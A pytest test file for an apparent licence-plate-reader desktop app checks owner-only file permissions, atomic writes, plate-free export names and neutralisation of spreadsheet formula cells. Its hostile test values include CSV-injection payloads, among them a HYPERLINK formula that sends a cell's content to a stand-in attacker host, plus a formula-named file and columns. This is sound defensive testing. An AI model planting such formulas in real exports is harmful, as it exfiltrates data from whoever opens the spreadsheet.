"""Issue 10 §4: every file the program exports is owner-only and named without a plate, and
every CSV it writes neutralizes formula cells. Played with hostile values: a vendor's file and
column names, camera names and plates that are spreadsheet formulas."""

from __future__ import annotations

import csv
import os
import stat
import sys
from pathlib import Path

import pytest

from alpr_desktop.core.clock import FixedClock
from alpr_desktop.core.owner_only import private_file, write_private
from alpr_desktop.core.safe_csv import FORMULA_STARTS, neutralize, restore, write_csv
from alpr_desktop.ingest.delimited import Mapping
from alpr_desktop.ingest.runner import ImportJob, ImportOptions, default_report_path
from alpr_desktop.services.images import default_image_name
from alpr_desktop.storage import create_store

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes")

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "'=already", "''@twice", "=", "plain", "7ABC123", "",
]


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    """The widest umask a user could have: what the program writes must not depend on it."""
    old = os.umask(0)
    yield
    os.umask(old)


@posix_only
def test_private_files_are_0600_whatever_the_umask_and_replace_wider_ones(
    tmp_path: Path, open_umask: None
) -> None:
    target = tmp_path / "new" / "deeper" / "out.bin"
    write_private(target, b"x")
    assert _mode(target) == 0o600 and target.read_bytes() == b"x"
    assert _mode(target.parent) == 0o700 and _mode(target.parent.parent) == 0o700
    wide = tmp_path / "wide.txt"
    wide.write_text("old")
    os.chmod(wide, 0o666)  # noqa: S103 - the wide file the export must not inherit
    write_private(wide, b"new")
    assert _mode(wide) == 0o600 and wide.read_bytes() == b"new"


def test_a_failed_write_leaves_the_old_file_and_no_partial_one(tmp_path: Path) -> None:
    target = tmp_path / "report.pdf"
    target.write_bytes(b"old")
    with pytest.raises(RuntimeError), private_file(target) as fh:
        fh.write(b"half")
        raise RuntimeError("disk trouble")
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.pdf"]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_starts_a_formula_and_the_guard_is_reversible(value: str) -> None:
    cell = neutralize(value)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == value


def test_numbers_are_written_as_numbers() -> None:
    assert neutralize(-5) == -5 and neutralize(2.5) == 2.5 and neutralize(None) == ""


@posix_only
def test_write_csv_is_owner_only_and_neutral(tmp_path: Path, open_umask: None) -> None:
    out = write_csv(tmp_path / "x.csv", ["=head", "n"], [[v, i] for i, v in enumerate(HOSTILE)])
    assert _mode(out) == 0o600
    rows = _csv_rows(out)
    assert all(not c.startswith(FORMULA_STARTS) for row in rows for c in row)
    assert [restore(r[0]) for r in rows[1:]] == HOSTILE


@posix_only
def test_the_reject_report_is_owner_only_and_holds_no_formula(
    tmp_path: Path, open_umask: None
) -> None:
    """A vendor export whose file name and column headers are formulas, with a plate and a
    camera name that are formulas too: the rows are rejected, and the report that names the
    file and the columns can be opened in a spreadsheet safely."""
    store = create_store(tmp_path / "s.alprdb", os.urandom(32))
    try:
        data = tmp_path / "=HYPERLINK(evil).csv"
        data.write_text("@Plate,+Seen,-Camera\n"
                        "=1+1,2025-01-02T03:04:05Z,@cam\n"
                        "7ABC123,not a time,=cmd\n", encoding="utf-8")
        mapping = Mapping("hostile", {"plate": "@Plate", "datetime": "+Seen",
                                      "camera": "-Camera"})
        report = tmp_path / "reports" / "rejects.csv"
        summary = ImportJob(store, FixedClock(),
                            ImportOptions(mapping=mapping, report_path=report)).run([data])
    finally:
        store.close()
    assert summary.rejected == 2 and summary.report_path == report
    assert _mode(report) == 0o600
    text = report.read_text("utf-8")
    rows = _csv_rows(report)
    cells = [c for row in rows for c in row]
    assert all(not c.startswith(FORMULA_STARTS) for c in cells)
    assert {restore(r[0]) for r in rows[1:]} == {data.name}
    assert {restore(r[2]) for r in rows[1:]} == {"@Plate", "+Seen"}
    assert "7ABC123" not in text


def test_default_export_names_carry_no_plate() -> None:
    name = default_image_name(42, "crop", "jpg")
    assert name == "alpr-read-42-crop.jpg"
    assert "7ABC123" not in name
    assert default_report_path(1_767_225_600).name.startswith("import-")
